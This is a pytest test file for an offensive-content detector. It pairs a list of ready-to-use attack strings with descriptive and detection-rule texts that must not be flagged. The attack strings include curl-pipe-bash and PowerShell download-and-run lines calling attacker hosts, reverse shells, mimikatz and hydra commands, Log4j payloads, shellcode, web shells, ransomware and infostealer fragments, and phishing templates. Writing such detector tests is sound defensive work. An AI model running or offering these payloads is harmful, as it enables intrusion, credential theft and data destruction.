"""Hand-made cases of both sides: attacks ready for use, and texts that tell of the same attacks."""

import time

import pytest

from stages.validate.credentials import replaced, without_overlaps
from stages.validate.offensive import RULES, WITHHELD, find_offensive

_SHELLCODE = "".join(
    f"\\x{byte:02x}"
    for byte in (49, 192, 80, 104, 47, 47, 115, 104, 104, 47, 98, 105, 110, 137, 227, 80, 83, 137, 225, 176, 11, 205, 128)
)

READY = [
    ("download-and-run", "curl -fsSL http://update-cdn.net/a.sh | bash"),
    ("download-and-run", "Then type `wget -qO- https://drop.site-x.org/run | sudo sh` and wait."),
    ("download-and-run", "curl -s http://45.9.148.3/p.py | python3"),
    ("download-and-run", "bash -c \"$(curl -fsSL http://attacker.com/payload)\""),
    ("download-and-run", "cd /tmp; wget http://45.9.148.3/bot && chmod +x bot && ./bot"),
    ("download-and-run", "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://45.9.148.3/a.ps1')\""),
    ("download-and-run", "iwr -useb https://files-share.top/x.ps1 | iex"),
    ("download-and-run", "powershell.exe -NoP -W Hidden -Enc " + "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA"),
    ("download-and-run", "certutil.exe -urlcache -split -f http://45.9.148.3/run.exe C:\\Users\\Public\\run.exe"),
    ("download-and-run", "mshta http://45.9.148.3/payload.hta"),
    ("download-and-run", "regsvr32 /s /n /u /i:http://45.9.148.3/file.sct scrobj.dll"),
    ("download-and-run", "lwp-request http://45.9.148.3/a.pl | perl"),
    ("download-and-run", "python3 -c 'import urllib.request; exec(urllib.request.urlopen(\"http://paste-x.net/raw/1\").read())'"),
    ("remote-shell", "perl -e 'use Socket;$p=4444;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in($p,$a))){exec(\"/bin/sh -i\");};'"),
    ("remote-shell", "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.5\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'"),
    ("remote-shell", "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"),
    ("remote-shell", "nc -e /bin/sh 10.0.0.5 4444"),
    ("remote-shell", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.5 4444 > /tmp/f"),
    ("remote-shell", "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.5', 4444))\nfor fd in (0, 1, 2): os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')"),
    ("remote-shell", "php -r '$sock=fsockopen(\"10.0.0.5\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("remote-shell", "$c = New-Object Net.Sockets.TCPClient('10.0.0.5',4444); $s = $c.GetStream(); while(1){ $d = iex $in }"),
    ("remote-shell", "msfvenom -p windows/meterpreter/reverse_tcp LHOST=10.0.0.5 LPORT=4444 -f exe -o run.exe"),
    ("remote-shell", "socat tcp-connect:10.0.0.5:4444 exec:/bin/sh,pty,stderr"),
    ("remote-shell", "nc.exe 10.0.0.5 4444 -e cmd.exe"),
    ("attack-command", "hydra -l admin -P rockyou.txt ssh://10.0.0.5"),
    ("attack-command", "Then run `hydra -L users.txt -P pass.txt 45.9.148.3 ftp` and wait."),
    ("attack-command", "sqlmap --batch -u 'http://shop.site-x.net/item.php?id=1' --dump"),
    ("attack-command", 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
    ("attack-command", "privilege::debug\nsekurlsa::logonpasswords"),
    ("attack-command", "C:\\> vssadmin.exe delete shadows /all /quiet"),
    ("attack-command", "cmd.exe /c wmic shadowcopy delete"),
    ("attack-command", "curl -H 'X-Api: ${jndi:ldap://45.9.148.3:1389/Exploit}' http://10.0.0.9"),
    ("attack-command", "Rubeus.exe kerberoast /outfile:hashes.txt"),
    ("attack-command", "secretsdump.py corp/admin:Pass1@10.0.0.5"),
    ("attack-command", "crackmapexec smb 10.0.0.0/24 -u admin -p Winter2024"),
    ("exploit-code", f'char code[] = "{_SHELLCODE}";'),
    ("exploit-code", "```python\npayload = b'A' * 264 + p64(0x401196)\nio = remote('10.0.0.9', 9001)\nio.sendline(payload)\n```"),
    ("exploit-code", "class MetasploitModule < Msf::Exploit::Remote\n  def exploit\n    connect\n  end\nend"),
    ("exploit-code", "msf6 > use exploit/windows/smb/ms17_010_eternalblue\nset RHOSTS 10.0.0.9\nset LHOST 10.0.0.5\nrun"),
    ("exploit-code", "import requests, sys\ntarget = sys.argv[1]\nr = requests.get(target + '/item?id=1 UNION SELECT user,pass FROM users')\nprint(r.text)"),
    ("exploit-code", "target = 'http://10.0.0.9'\nrequests.post(target + '/api', headers={'X-Api-Version': '${jndi:ldap://host/a}'})"),
    ("malware-source", "p = VirtualAllocEx(h, NULL, n, MEM_COMMIT, 0x40);\nWriteProcessMemory(h, p, buf, n, NULL);\nCreateRemoteThread(h, NULL, 0, p, NULL, 0, NULL);"),
    ("malware-source", "def on_press(key):\n    log.write(str(key))\nwith Listener(on_press=on_press) as l: l.join()"),
    ("malware-source", "for root, _, names in os.walk('/home'):\n    for n in names:\n        data = Fernet(key).encrypt(open(n,'rb').read())\nprint('Your files are gone. Send bitcoin to')"),
    ("malware-source", "db = os.environ['LOCALAPPDATA'] + '/Google/Chrome/User Data/Default/Login Data'\ncon = sqlite3.connect(db)\nrequests.post('https://api.telegram.org/bot/sendDocument')"),
    ("malware-source", "filepath.Walk(root, fn)\ngcm, _ := cipher.NewGCM(b)\nnote := 'Your files are gone. Pay in bitcoin'"),
    ("malware-source", "Directory.GetFiles(p)\nvar e = aes.CreateEncryptor(k, v);\nvar note = \"Your files are gone\";"),
    ("malware-source", "p = base + '/Local State'\nk = CryptUnprotectData(b)\nrequests.post(u, data=k)"),
    ("malware-source", "<?php @eval($_POST['pass']); ?>"),
    ("malware-source", "<?php system(base64_decode($_REQUEST['c'])); ?>"),
    ("phishing-mail", "Subject: Unusual sign-in\n\nDear customer,\nwe saw unusual activity. Please verify your account within 24 hours: click here.\nThe Security Team"),
    ("phishing-mail", "Hello {first_name},\n\nYour mailbox will be suspended. Confirm your password immediately by clicking the link below:\n{{.URL}}"),
    ("phishing-mail", "Dear Accounts Payable,\n\nThe attached invoice is overdue. Please open the attachment and settle the payment details by end of day.\n"),
    ("phishing-mail", "Subject: Action required: payroll\n\nHi Anna,\n\nHR asks you to confirm your bank details by end of day. Log in here: https://hr-pay.net\n"),
    ("intrusion-steps", "1. Scan the target network for open ports.\n2. Exploit the outdated server to gain a shell.\n3. Dump the hashes and crack them on your machine.\n4. Clear the logs."),
    ("intrusion-steps", "1. Scan the target network.\n2. Exploit the server.\n3. Dump the hashes.\n4. Clear the logs."),
    ("intrusion-steps", "First, send the phishing mail to your victim. Then install a backdoor on the laptop. Finally, exfiltrate the files and cover your tracks."),
    ("intrusion-steps", "Step 1: Set up a listener on your server.\nStep 2: Upload the web shell.\nStep 3: Escalate privileges to root.\nStep 4: Move laterally."),
    ("intrusion-steps", "- Brute-force the VPN with a list of leaked passwords\n- Disable the antivirus before you go on\n- Deploy the ransomware payload to every share"),
]  # fmt: skip

TOLD = [
    "Adversaries may use curl or wget to download a payload and pipe it to a shell such as bash.",
    "Examples include certutil, and PowerShell commands such as IEX(New-Object Net.WebClient).downloadString() and Invoke-WebRequest.",
    "The actor ran powershell -enc with a Base64 string that downloads a script.",
    "The dropper executed `curl hxxp://45[.]9[.]148[.]3/a.sh | bash` on the host.",
    "Mshta.exe can run remote files: mshta http[:]//webserver/payload[.]hta",
    "Install with curl --proto '=https' -sSf https://sh.rustup.rs | sh and then log in.",
    "wget https://example.com/setup.sh && sh setup.sh is how the manual begins.",
    "curl -s https://api.vendor-site.com/v1/status | jq .health",
    "wget https://downloads.site-a.org/tool.tar.gz && tar xzf tool.tar.gz",
    "CommandLine|contains|all:\n  - 'IEX'\n  - 'DownloadString'\n  - 'http'\ncondition: selection",
    "Image|endswith: '\\mshta.exe'\nCommandLine|contains:\n  - 'http://'\n  - 'https://'",
    "Detects regsvr32 with /i:http in its command line, as in Squiblydoo; see https://attack.mitre.org/techniques/T1218/010/",
    "Detects bash reverse shells by /dev/tcp/ in the command line.",
    "A reverse shell with netcat (nc -e /bin/sh) connects back to the attacker.",
    "Ports: nc -zv 10.0.0.5 22 tells whether the port is open.",
    "import socket\ns = socket.socket()\ns.connect(('10.0.0.5', 80))\ns.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')",
    "Metasploit's module exploit/windows/smb/ms17_010_eternalblue exploits it; set RHOSTS names the target.",
    "The file starts with the bytes \\x4d\\x5a\\x90\\x00\\x03 of a PE header.",
    "The name is encoded as " + "\\xd0\\xbf\\xd1\\x80" * 8 + " in UTF-8.",
    "rule A { strings: $a = { 31 C0 50 68 2F 2F 73 68 68 2F 62 69 6E 89 E3 } condition: $a }",
    "Hydra guesses passwords (-l user -P list) against SSH; sqlmap -u <url> tests a page, as sqlmap -u http://www.example.com/?id=1 does.",
    "Ransomware deletes shadow copies with vssadmin delete shadows /all /quiet or wmic shadowcopy delete.",
    "CommandLine|contains: 'vssadmin delete shadows'\nCommandLine: vssadmin delete shadows /all /quiet",
    "Detects Rubeus with kerberoast in its command line. Mimikatz's sekurlsa::logonpasswords reads LSASS.",
    "Locally, mimikatz can be run using: sekurlsa::Minidump lsassdump.dmp; sekurlsa::logonPasswords",
    "The string ${jndi:ldap://host/a} or ${jndi:ldap://attacker.example.com/a} makes Log4j load a class.",
    "CrackMapExec smb modules and secretsdump.py dump hashes from targets over SMB -u and -p are its options.",
    "The class overflows when 'A' * 300 is sent, as the buffer has 256 bytes.",
    "The injection ' OR 1=1 -- makes the condition true, and UNION SELECT reads other tables.",
    "A request with ${jndi:ldap://host/a} in its User-Agent makes Log4j load a class (CVE-2021-44228).",
    "response = requests.get(url, timeout=5)\nassert response.status_code == 200",
    "It injects code through VirtualAllocEx, WriteProcessMemory and CreateRemoteThread.",
    "Detects CreateRemoteThread() after VirtualAllocEx() and WriteProcessMemory() by the same process.",
    "Keyloggers call SetWindowsHookEx with WH_KEYBOARD_LL and write what is typed to a file.",
    "Ransomware encrypts files, deletes shadow copies with vssadmin delete shadows, and demands bitcoin.",
    "for path in os.walk(folder): copy = AES.new(key, AES.MODE_GCM).encrypt(read(path))  # nightly backup",
    "for f in os.walk(src): zip.write(f)  # then Fernet(key).encrypt; the page of bitcoin prices is next",
    "Infostealers read Login Data and logins.json of browsers and send them to a Telegram bot.",
    "A page that runs system(\"ls \" . $_GET['dir']) lets users add commands of their own.",
    "China Chopper is a web shell of one line that evaluates a POST parameter.",
    "Phishing mails say that an account is suspended and that the password must be confirmed at once; do not click the link.",
    "Dear reader,\nthis guide explains how to update your password policy. Click the chapters on the left.",
    "Subject: Maintenance on Sunday\n\nDear all,\nthe mail server will be down from 2 to 4. No action is needed.",
    "1. The adversary scans the network.\n2. The adversary exploits the server and gains a shell.\n3. The adversary dumps the hashes.",
    "Scan the network for open ports. Exploit the flaw. Dump the hashes. These three tests are part of the course.",
    "The kill chain: reconnaissance, weaponization, delivery, exploitation, installation, command and control, actions.",
    "The adversary exploits the server. It dumps the hashes. It escalates privileges. It clears the logs. It pivots.",
    "1. Disable the firewall rule that allows telnet.\n2. Rotate your keys.\n3. Delete the unused accounts.\n4. Patch your servers.",
    "Exploit the failure of a check. [Explore] Survey the application: use a browser to follow all links. [Exploit] Inject commands.",
    "APT99 compromised the mail server. It dumped credentials with Mimikatz. It moved laterally and exfiltrated archives. What would you check?",
    "Steal application access token. Exploitation for credential access. Steal web session cookie. Which one fits your alert?",
    "T1003 Dump credentials\nT1021 Remote services\nT1041 Exfiltration over C2 channel",
    "If you find a web shell, isolate the host, collect memory, and reset all passwords that were used on it.",
]  # fmt: skip


@pytest.mark.parametrize(("rule", "text"), READY)
def test_attacks_ready_for_use_are_found_and_can_be_withheld(rule: str, text: str) -> None:
    spans = find_offensive(text)
    assert {span.rule for span in spans} == {rule}
    left = replaced(text, without_overlaps(spans))
    assert WITHHELD in left and find_offensive(left) == []


@pytest.mark.parametrize("text", TOLD)
def test_descriptions_detections_and_everyday_commands_are_not(text: str) -> None:
    assert find_offensive(text) == []


def test_every_rule_has_a_source_and_cases() -> None:
    assert {rule for rule, _ in READY} == {*RULES, "intrusion-steps"}
    assert all("https://" in rule.source for rule in RULES.values())


def test_an_attack_in_a_long_text_is_found_where_it_stands() -> None:
    text = f"{'The log shows nothing. ' * 200}\n{next(text for _, text in READY if text.startswith('import socket'))}\n{'All is well. ' * 200}"
    (span,) = find_offensive(text)
    assert text[span.start : span.end].startswith("s.connect") and text[span.start : span.end].endswith("'/bin/sh')")


def test_parts_that_stand_far_apart_are_no_program() -> None:
    first, _, last = next(text for _, text in READY if text.startswith("p = Virtual")).split("\n")
    assert find_offensive(f"{first}\n{'Another call is WriteProcessMemory. ' * 200}\n{last}") == []


@pytest.mark.parametrize(
    "unit", ["curl ", "curl http://a.b/", "\\x90", "nc -e ", "Steal it. ", "dear you,\n", "IEX iwr ", "``` \n", "wget ; "]
)
def test_time_does_not_explode_with_repetition(unit: str) -> None:
    started = time.process_time()
    find_offensive(unit * (60_000 // len(unit)))
    assert time.process_time() - started < 5
